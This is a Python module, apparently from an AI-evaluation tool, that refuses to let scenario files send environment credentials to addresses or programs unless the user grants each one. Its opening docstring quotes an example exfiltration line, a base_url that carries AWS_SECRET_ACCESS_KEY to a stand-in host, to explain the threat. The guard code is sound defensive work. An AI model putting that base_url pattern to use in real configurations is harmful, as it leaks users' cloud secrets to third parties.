"""Which credentials of the environment a scenario file may send to an address that it names itself.

A file of a stranger could otherwise collect keys: `base_url: https://x.example/${AWS_SECRET_ACCESS_KEY}`. The user
grants a variable with --allow-env, or in a settings file of their own. Nothing in the project can grant one, because a
stranger's project can contain any file.
"""

from __future__ import annotations

import re
import tomllib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Any

from salvo.engine.chat import catalog
from salvo.engine.chat.catalog import Provider
from salvo.engine.jsonio.pydantic_errors import FieldError, FieldPath
from salvo.engine.runtime.credentials import is_known_credential, looks_secret
from salvo.engine.text.messages import display_path
from salvo.errors import UsageError
from salvo.scenarios.result import COMMAND
from salvo.scenarios.spec.env_variables.variables import VariableUse, expand_variables, find_variables
from salvo.scenarios.spec.judge_server import (
    ServerUse,
    judge_provider,
    scenario_judge_servers,
    scenario_user_server,
)
from salvo.scenarios.spec.schema import Scenario

OPTIONS = "adapter_options"
BASE_URL = "base_url"
_SETTINGS = Path("salvo", "settings.toml")
_FORM = '[projects."/path/of/the/project"] with allow_env = ["NAME"]'

_OWN_HOSTS: Mapping[str, str] = {
    "GROQ_API_KEY": "api.groq.com",
    "OPENROUTER_API_KEY": "openrouter.ai",
    "MISTRAL_API_KEY": "api.mistral.ai",
    "DEEPSEEK_API_KEY": "api.deepseek.com",
    "TOGETHER_API_KEY": "api.together.xyz",
    "FIREWORKS_API_KEY": "api.fireworks.ai",
    "XAI_API_KEY": "api.x.ai",
    "GEMINI_API_KEY": "generativelanguage.googleapis.com",
    "PERPLEXITY_API_KEY": "api.perplexity.ai",
    "CEREBRAS_API_KEY": "api.cerebras.ai",
    "HF_TOKEN": "router.huggingface.co",
}
"""Services with the protocol of a provider: a key may go to the host that it is for."""
_PLAIN_ADDRESS = re.compile(r"https://([a-z0-9.-]+)(?:/[A-Za-z0-9._~/-]*)?")
"""An address in which nothing can be read in two ways: no user, no port, no escape."""


@dataclass(frozen=True)
class EnvGrants:
    """What the user allows for a project: the names of --allow-env, and those of the user's own settings."""

    root: Path
    environ: Mapping[str, str]
    named: frozenset[str] = frozenset()

    def allows(self, name: str) -> bool:
        return name in self.named or name in self._settings

    @cached_property
    def _settings(self) -> frozenset[str]:
        """The names that the settings grant. They are read only when a scenario needs a grant."""
        file = settings_file(self.environ)
        root = self.root.resolve()
        # Where the home folder is the project itself, as in some CI systems, the file may be a stranger's.
        if file is None or file.resolve().is_relative_to(root) or not file.is_file():
            return frozenset()
        return frozenset(_read_grants(file, root))


def settings_file(environ: Mapping[str, str]) -> Path | None:
    """Return the path of the user's settings, or None if there is no home folder."""
    configured = environ.get("XDG_CONFIG_HOME", "")
    if configured and Path(configured).is_absolute():  # a relative one is invalid, and could lead into the project
        return Path(configured) / _SETTINGS
    try:
        return Path.home() / ".config" / _SETTINGS
    except RuntimeError:
        return None


def _read_grants(file: Path, root: Path) -> Iterator[str]:
    try:
        settings = tomllib.loads(file.read_text(encoding="utf-8"))
    except (OSError, ValueError) as error:
        raise UsageError(f"{display_path(file)} cannot be read: {error}.", hint=f"Write {_FORM}.") from error
    projects = settings.get("projects", {})
    if not isinstance(projects, dict):
        raise _invalid(file, "projects")
    for path, table in projects.items():
        names = table.get("allow_env", []) if isinstance(table, dict) else None
        if not isinstance(names, list) or not all(isinstance(name, str) for name in names):
            raise _invalid(file, f"projects.{path!r}")
        try:
            folder = Path(path).expanduser()
            is_project = folder.is_absolute() and folder.resolve() == root
        except (OSError, RuntimeError, ValueError) as error:  # an unknown user after ~, a loop of links, a null byte
            raise _invalid(file, f"projects.{path!r}") from error
        if is_project:
            yield from names


def _invalid(file: Path, field: str) -> UsageError:
    return UsageError(f"{display_path(file)}: {field} is not valid.", hint=f"Write {_FORM}.")


def refused_variables(scenario: Scenario, grants: EnvGrants) -> Iterator[VariableUse]:
    """Yield each credential that the scenario would send to an address, or give to a program, without a grant."""
    options, provider = scenario.adapter_options, catalog.providers().get(scenario.adapter)
    for use in find_variables(options):
        to_program = _is_word_of_command(use.path, scenario) and is_credential(use.name)
        if (to_program or _needs_grant(use, options, provider, grants.environ)) and not grants.allows(use.name):
            yield use


def refused_judge_variables(
    fields: Mapping[str, Any], provider: Provider | None, grants: EnvGrants
) -> Iterator[VariableUse]:
    """Yield each credential that a judge with these fields would send to an address without a grant."""
    for use in find_variables(fields):
        if _needs_grant(use, fields, provider, grants.environ) and not grants.allows(use.name):
            yield use


def grant_errors(scenario: Scenario, grants: EnvGrants) -> Iterator[FieldError]:
    """Yield an error for each of them that names the variable and the flag, and never a value."""
    for use in refused_variables(scenario, grants):
        where = "a program" if _is_word_of_command(use.path, scenario) else "an address"
        yield _grant_error((OPTIONS, *use.path), use.name, where)
    user = scenario_user_server(scenario)
    if user is not None:
        yield from _server_grant_errors(scenario, user, grants)
    yield from judge_grant_errors(scenario, grants)


def judge_grant_errors(scenario: Scenario, grants: EnvGrants) -> Iterator[FieldError]:
    """Yield the same for the servers of its judges alone."""
    for judge in scenario_judge_servers(scenario):
        yield from _server_grant_errors(scenario, judge, grants)


def _server_grant_errors(scenario: Scenario, server: ServerUse, grants: EnvGrants) -> Iterator[FieldError]:
    provider = judge_provider(scenario, server.model)
    for use in refused_judge_variables(server.fields, provider, grants):
        yield _grant_error((*server.path, *use.path), use.name, "an address")


def _grant_error(path: FieldPath, name: str, where: str) -> FieldError:
    return FieldError(
        path,
        f"{name} is a credential, and this file would give it to {where} of its choice; "
        f"if you want that, use --allow-env {name} (with pytest --salvo-allow-env)",
    )


def _needs_grant(
    use: VariableUse, options: Mapping[str, Any], provider: Provider | None, environ: Mapping[str, str]
) -> bool:
    if is_address(use):
        return is_credential(use.name) or looks_secret(use.name)
    if not is_credential(use.name):
        return False
    if options.get(BASE_URL):
        return not _goes_home(use.name, str(expand_variables(options[BASE_URL], environ)))
    # Without an address it goes to the provider's own, where it may be another service's.
    return provider is not None and use.name != provider.key_variable


def is_credential(name: str) -> bool:
    keys = {provider.key_variable for provider in catalog.providers().values()}
    return name in keys or is_known_credential(name)


def is_address(use: VariableUse) -> bool:
    return use.path[:1] == (BASE_URL,) or "://" in use.text


def _is_word_of_command(path: FieldPath, scenario: Scenario) -> bool:
    return scenario.adapter == COMMAND and path[:1] == ("command",)


def _goes_home(name: str, address: str) -> bool:
    """Return whether the address is one of the service that the credential is for."""
    match = _PLAIN_ADDRESS.fullmatch(address)
    if match is None:
        return False
    own_hosts = dict(_OWN_HOSTS)
    for provider in catalog.providers().values():
        own_hosts[provider.key_variable] = provider.base_url.removeprefix("https://").partition("/")[0]
    return own_hosts.get(name) == match[1]
